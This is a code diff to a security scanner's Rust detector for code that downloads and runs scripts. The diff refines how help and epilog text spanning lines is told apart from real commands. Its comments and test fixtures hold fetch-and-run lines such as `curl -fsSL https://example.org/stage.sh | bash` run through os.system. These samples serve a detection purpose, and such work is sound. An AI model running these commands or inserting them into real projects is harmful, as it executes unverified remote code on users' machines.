@@ -12,7 +12,8 @@
 //! a decoded payload written to a path that is then run (decode, write, run); a command read
 //! from a response and run (`job = requests.get(u).json()` then `getoutput(job['cmd'])`: a
 //! remote command loop); a shell running a fetch's output by command substitution (`bash -c
-//! "$(curl …)"`). Command strings shown to a person (help text, `print`, log lines) are not
+//! "$(curl …)"`). Command strings shown to a person (help text, `print`, log lines, judged
+//! from where the literal opens, so a help or epilog text spanning lines too) are not
 //! commands.
 //!
 //! Python code only for calls; strings for one-liners. Never skipped (this is the
@@ -32,7 +33,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.download-and-execute",
-    revision: 3,
+    revision: 4,
     title: "Downloads and executes code.",
     category: Category::Execution,
     severity: Severity::Critical,
@@ -214,8 +215,11 @@ impl Detector for DownloadExecute {
             }
         };
         // In Python, a command string counts when it is not text shown to a person
-        // (a CLI's `curl … | sh` install hint in help or a print).
+        // (a CLI's `curl … | sh` install hint in help or a print), judged from where the
+        // string literal opens: a help or epilog text spanning lines (`epilog=dedent("""…`)
+        // is shown text on every line.
         let shown = |o: usize| {
+            let o = src.span_at(o).filter(|s| s.kind == Kind::Str).map_or(o, |s| s.start);
             let ls = file.text[..o].rfind('\n').map_or(0, |p| p + 1);
             SHOWN.is_match(&file.text[ls..o])
         };
@@ -767,6 +771,21 @@ mod tests {
                     Runtime,
                     "import subprocess\np.add_argument('--setup', help='first run: curl -fsSL https://example.org/i.sh | sh')\nsubprocess.run(['tool'])\n",
                     None,
+                ),
+                (
+                    "install hint in a CLI command's epilog spanning lines",
+                    "pkg/cli/commands/update.py",
+                    Runtime,
+                    "@parser.command(\n    help='Update the CLI',\n    epilog=deindent(\"\"\"\n        Updates a CLI installed with the managed installer\n        (curl -fsSL https://example.org/install.sh | bash). The new version is\n        verified before it is swapped in.\n    \"\"\"),\n)\ndef update(args):\n    pass\n",
+                    None,
+                ),
+                (
+                    "a multi-line command string run by a shell",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import os
+SCRIPT = \"\"\"\n    set -e\n    curl -fsSL https://example.org/stage.sh | bash\n\"\"\"\nos.system(SCRIPT)\n",
+                    Some((4, "curl", Critical)),
                 ),
                 (
                     "install hint printed",
